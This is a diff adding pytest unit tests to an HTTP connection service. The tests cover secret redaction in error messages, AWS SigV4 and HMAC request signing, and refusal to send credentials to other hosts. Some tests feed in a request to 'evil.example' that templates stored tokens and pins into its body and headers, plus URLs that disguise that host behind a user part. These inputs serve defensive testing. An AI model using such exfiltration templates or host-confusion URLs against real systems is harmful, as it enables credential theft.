@@ -8,11 +8,12 @@ import hmac
 import re
 from collections.abc import Callable
 from dataclasses import replace
-from typing import Any
+from typing import Any, ClassVar
 from urllib.parse import quote
 
 import pytest
 
+from chalicelib.domain.aws_signatures import Credentials, Signable, query_signature
 from chalicelib.domain.errors import OutboundConnectError, OutboundRefusedError, OutboundTooLargeError
 from chalicelib.domain.flows.http import (
     Answer,
@@ -28,6 +29,7 @@ from chalicelib.domain.json import Json, decode
 from chalicelib.services.flows.http import FlowHttp
 from chalicelib.services.flows.templates import Templates
 from tests.fakes import FixedClock, SeededEntropy
+from tests.timing import assert_cheap
 from tests.unit.driver import Receiver, status
 
 Answers = Callable[[HttpRequest], "Json | HttpResponse"]
@@ -217,6 +219,24 @@ class TestAnswer:
         with pytest.raises(FlowHttpError) as caught:
             http.judge(answer, ResponseRules(success_path="ok"), through)
         assert caught.value.message == "****** may not"
+
+    @pytest.mark.parametrize("sent", ["dp 7719/secret", "dp%207719%2Fsecret", "ZGVwb3Q6ZHAgNzcxOS9zZWNyZXQ="])
+    def test_no_message_shows_a_secret_in_the_form_that_it_was_sent_in(self, sent: str) -> None:
+        through = connection({"type": "basic", "basic": {"username": "depot", "password": "dp 7719/secret"}})
+
+        error = refused(RequestSpec(), lambda _: status(403, f"not {sent}!".encode()), through)
+
+        assert error.message == "not ******!"
+
+    def test_no_message_shows_a_token_that_was_granted_meanwhile(self) -> None:
+        auth = {"type": "oauth", "oauth": {"tokenURI": "https://login.example/t", "clientSecret": "long-secret"}}
+
+        def answer(request: HttpRequest) -> Any:
+            if request.url.startswith("https://login"):
+                return {"access_token": "granted-71"}
+            return status(403, f"{request.headers['Authorization']} may not".encode())
+
+        assert refused(RequestSpec(), answer, connection(auth)).message == "Bearer ****** may not"
 
 
 class TestRules:
@@ -436,6 +456,12 @@ class TestAuth:
         assert base64.urlsafe_b64decode(signature + "=") == expected
         assert decode(base64.urlsafe_b64decode(payload + "=="))["iss"] == "me"  # type: ignore[index, call-overload]
 
+    def test_a_challenge_that_is_one_long_word_is_read_in_no_time(self) -> None:
+        through = connection({"type": "digest", "digest": {"username": "u", "password": "p"}})
+        answer = status(401, www_authenticate="Digest " + "a" * 60_000)
+
+        assert_cheap(0.5, lambda: refused(RequestSpec(), lambda _: answer, through))
+
     def test_credentials_do_not_follow_to_another_host(self) -> None:
         through = connection({"type": "token", "token": {"token": "t"}}, headers=[{"name": "X-Key", "value": "k"}])
 
@@ -444,6 +470,32 @@ class TestAuth:
 
         assert own.headers["Authorization"] == "Bearer t"
         assert not {"Authorization", "X-Key"} & set(other.headers)
+
+    def test_nothing_that_proves_the_connection_is_written_into_a_request_to_another_host(self) -> None:
+        through = connection(
+            {"type": "token", "token": {"token": "t-secret", "location": "body"}}, encrypted={"pin": "p-secret"}
+        )
+        spec = RequestSpec(
+            method="POST",
+            url="https://evil.example/x",
+            body='{"t": "{{connection.http.auth.token.token}}", "p": "{{connection.http.encrypted.pin}}", "n": 1}',
+            headers=(("X-Pin", "{{connection.http.encrypted.pin}}"), ("X-Api-Key", "k-secret"), ("X-Page", "2")),
+        )
+
+        _, (own,) = ask(replace(spec, url="https://depot.example/api/x"), through)
+        _, (other,) = ask(spec, through)
+
+        assert b"t-secret" in (own.body or b"")
+        assert (own.headers["X-Pin"], own.headers["X-Api-Key"]) == ("p-secret", "k-secret")
+        assert "secret" not in f"{other.body!r} {other.headers}"
+        assert other.headers["X-Page"] == "2"
+
+    def test_a_user_before_the_host_makes_no_host_one_s_own(self) -> None:
+        through = connection({"type": "token", "token": {"token": "t"}})
+
+        for url in ("https://depot.example@evil.example/x", "https://depot.example:pw@evil.example/x"):
+            _, (other,) = ask(RequestSpec(url=url), through)
+            assert "Authorization" not in other.headers
 
 
 class TestPing:
@@ -462,3 +514,78 @@ class TestPing:
         http, _ = calls(lambda _: {"ok": False, "why": "closed"})
 
         assert http.ping(connection(ping={"successPath": "ok", "errorPath": "why"})) == (400, "closed")
+
+
+class TestSigning:
+    """Requests whose headers or addresses are signed by their templates."""
+
+    SIGNED = '{{{aws4 connection.http.encrypted.id connection.http.encrypted.key null "us-east-1" "service"}}}'
+    KEYS: ClassVar[dict[str, Json]] = {
+        "id": "AKIDEXAMPLE",
+        "key": "wJalrXUtnFEMI/K7MDENG+bPxRfiCYEXAMPLEKEY",
+        "token": "session-77-19",
+    }
+
+    def through(self, *headers: tuple[str, str], **http: Any) -> Connection:
+        named: Json = [{"name": name, "value": value} for name, value in headers]
+        return connection(baseURI="https://example.amazonaws.com", headers=named, encrypted=dict(self.KEYS), **http)
+
+    def test_a_header_signs_the_request_with_the_time_that_another_header_says(self) -> None:
+        through = self.through(("Authorization", self.SIGNED), ("X-Amz-Date", "20150830T123600Z"))
+        spec = RequestSpec("GET", "/?Param2=value2&Param1=value1")
+
+        _, (request,) = ask(spec, through)
+
+        assert request.headers["Authorization"] == (
+            "AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/service/aws4_request, "
+            "SignedHeaders=host;x-amz-date, "
+            "Signature=b97d918cfa904a5beff61c982a1b6f458b799221646efd99d3219ec94cdf2500"
+        )
+
+    def test_the_time_and_the_token_of_the_session_are_added_where_they_lack(self) -> None:
+        signed = self.SIGNED.replace("null", "connection.http.encrypted.token")
+
+        _, (request,) = ask(RequestSpec("POST", "/", body="{}"), self.through(("Authorization", signed)))
+
+        assert re.fullmatch(r"\d{8}T\d{6}Z", request.headers["X-Amz-Date"])
+        assert request.headers["X-Amz-Security-Token"] == "session-77-19"
+        assert "SignedHeaders=content-type;host;x-amz-date;x-amz-security-token," in request.headers["Authorization"]
+
+    def test_what_was_signed_for_a_host_goes_to_no_other(self) -> None:
+        signed = self.SIGNED.replace("null", "connection.http.encrypted.token")
+
+        _, (request,) = ask(RequestSpec(url="https://elsewhere.example/2"), self.through(("Authorization", signed)))
+
+        assert "AKIDEXAMPLE" not in str(request.headers)
+        assert "session-77-19" not in str(request.headers)
+
+    def test_an_address_carries_its_own_signature(self) -> None:
+        credential = "AKIDEXAMPLE%2F20150830%2Fus-east-1%2Fservice%2Faws4_request"
+        uri = f"/x?X-Amz-Credential={credential}&X-Amz-Date=20150830T123600Z&X-Amz-Signature={self.SIGNED}"
+
+        _, (request,) = ask(RequestSpec("GET", uri), self.through())
+
+        plain, _, signature = request.url.partition("&X-Amz-Signature=")
+        who = Credentials(str(self.KEYS["id"]), str(self.KEYS["key"]))
+        assert signature == query_signature(Signable("GET", plain, {}), who, "us-east-1", "service", FixedClock().now())
+
+    def test_a_request_can_be_hashed_and_signed_by_its_parts(self) -> None:
+        through = self.through(
+            ("X-Hash", '{{{hash "sha256" "hex" hashOptions.URI}}}'),
+            ("X-Hmac", '{{{hmac "sha256" hmacOptions.http.encrypted.key "hex" hmacOptions.body}}}'),
+            ("X-Parts", "{{hmacOptions.method}} {{hmacOptions.orderedQueryParams}} {{hashOptions.urlParametersMap.b}}"),
+        )
+
+        _, (request,) = ask(RequestSpec("POST", "/x?b=2&sign=no&a=1", body='{"n": 1}'), through)
+
+        assert request.headers["X-Hash"] == hashlib.sha256(request.url.encode()).hexdigest()
+        key = str(self.KEYS["key"]).encode()
+        assert request.headers["X-Hmac"] == hmac.new(key, b'{"n": 1}', "sha256").hexdigest()
+        assert request.headers["X-Parts"] == "POST a=1&b=2 2"
+
+    def test_a_header_of_the_call_counts_more_than_a_signing_one_of_the_connection(self) -> None:
+        spec = RequestSpec(headers=(("authorization", "mine"),))
+
+        _, (request,) = ask(spec, self.through(("Authorization", self.SIGNED)))
+
+        assert {name.lower(): value for name, value in request.headers.items()}["authorization"] == "mine"
